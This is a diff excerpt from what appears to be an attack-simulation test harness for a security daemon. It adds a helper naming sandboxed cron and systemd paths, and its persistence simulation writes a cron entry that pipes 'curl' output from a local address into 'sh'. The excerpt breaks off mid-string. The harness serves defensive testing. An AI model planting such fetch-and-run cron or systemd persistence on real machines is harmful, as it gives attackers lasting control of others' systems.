@@ -220,9 +220,18 @@ def cryptominer(ctx) -> Outcome:
                    started, [p.pid])
 
 
+SANDBOX_ETC = "sandbox-etc"
+
+
+def sandbox_persistence(root: Path) -> list[str]:
+    """The persistence attack's places under its sandbox /etc, as the daemon's
+    `[profiles] persistence_paths` names the real ones."""
+    return [f"{root / SANDBOX_ETC}/cron.d/", f"{root / SANDBOX_ETC}/systemd/system/"]
+
+
 def persistence(ctx) -> Outcome:
     """A cron file and a systemd unit that bring the attacker back (under a sandbox /etc)."""
-    etc = ctx.root / "sandbox-etc"
+    etc = ctx.root / SANDBOX_ETC
     script = (f"mkdir -p {etc}/cron.d {etc}/systemd/system/multi-user.target.wants && "
               f"echo '* * * * * root curl -s http://127.0.0.1:1/x | sh' > {etc}/cron.d/update"
               f" && chmod 644 {etc}/cron.d/update && printf '[Service]\\nExecStart=/bin/sh -c "
